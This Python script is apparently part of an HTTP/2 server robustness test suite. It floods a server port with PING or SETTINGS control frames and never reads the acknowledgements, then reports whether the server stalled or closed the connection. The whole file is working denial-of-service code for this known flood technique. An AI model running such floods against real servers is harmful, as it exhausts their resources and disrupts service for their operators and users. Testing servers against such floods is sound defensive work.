"""SETTINGS or PING flood: control frames the server must acknowledge,
sent as fast as possible while never reading the acknowledgements.

usage: h2_control_flood.py PORT {ping,settings} FRAMES [--wait SECONDS]

Writes FRAMES raw PING (or non-empty SETTINGS) frames in large batches
without reading; a write that cannot proceed for 10 s (the server
stopped reading) or fails (the server closed) ends the flood. Then it
reads, at most WAIT seconds (default 30), to see whether the server closes the connection.
Prints a JSON report with `frames_sent` and `stalled`.
"""

import argparse
import time

from h2_common import PING, SETTINGS, Attacker, frame_bytes

# SETTINGS_INITIAL_WINDOW_SIZE = 65535: a real setting the server must
# apply and acknowledge, not an empty frame.
SETTING = (0x4).to_bytes(2, "big") + (65535).to_bytes(4, "big")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=["ping", "settings"])
    parser.add_argument("frames", type=int)
    parser.add_argument("--wait", type=float, default=30.0)
    args = parser.parse_args()

    attacker = Attacker(args.port)
    attacker.poll(wait=1.0)  # the server's SETTINGS, acknowledged
    sent = 0
    stalled = False
    started = time.monotonic()
    attacker.sock.settimeout(10.0)
    while sent < args.frames and not attacker.gone:
        n = min(1000, args.frames - sent)
        if args.kind == "ping":
            batch = b"".join(
                frame_bytes(PING, 0, 0, (sent + i).to_bytes(8, "big")) for i in range(n)
            )
        else:
            batch = frame_bytes(SETTINGS, 0, 0, SETTING) * n
        try:
            attacker.sock.sendall(batch)
        except TimeoutError:
            stalled = True
            break
        except OSError as e:
            attacker.write_failed = type(e).__name__ + ": " + str(e)
            break
        sent += n
    flood_seconds = round(time.monotonic() - started, 3)
    attacker.wait_closed(limit=args.wait)
    attacker.report(
        frames_sent=sent,
        stalled=stalled,
        flood_seconds=flood_seconds,
        seconds=round(time.monotonic() - started, 3),
    )


if __name__ == "__main__":
    main()
